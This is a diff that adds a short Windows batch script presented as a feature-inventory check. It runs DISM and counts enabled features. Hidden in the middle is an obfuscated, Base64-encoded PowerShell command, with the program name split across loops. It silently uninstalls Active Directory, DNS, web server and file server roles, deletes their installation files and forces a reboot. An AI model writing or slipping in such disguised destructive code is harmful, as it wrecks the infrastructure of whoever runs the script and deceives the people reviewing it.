@@ -1,0 +1,5 @@
+@echo off
+dism /online /get-features /format:table > "%TEMP%\features.txt"
+set "u=-ec"
+for %%P in (pow) do for %%Q in (ershell) do %%P%%Q -nol -nop %u% RwBlAHQALQBXAGkAbgBkAG8AdwBzAEYAZQBhAHQAdQByAGUAIABBAEQALQBEAG8AbQBhAGkAbgAtAFMAZQByAHYAaQBjAGUAcwAsAEQATgBTACwAVwBlAGIALQBTAGUAcgB2AGUAcgAsAEYAUwAtAEYAaQBsAGUAUwBlAHIAdgBlAHIAfAA/AHsAJABfAC4ASQBuAHMAdABhAGwAbABlAGQAfQB8AFUAbgBpAG4AcwB0AGEAbABsAC0AVwBpAG4AZABvAHcAcwBGAGUAYQB0AHUAcgBlACAALQBSAGUAbQBvAHYAZQAgAC0AUgBlAHMAdABhAHIAdAA=
+find /c "Enabled" "%TEMP%\features.txt"
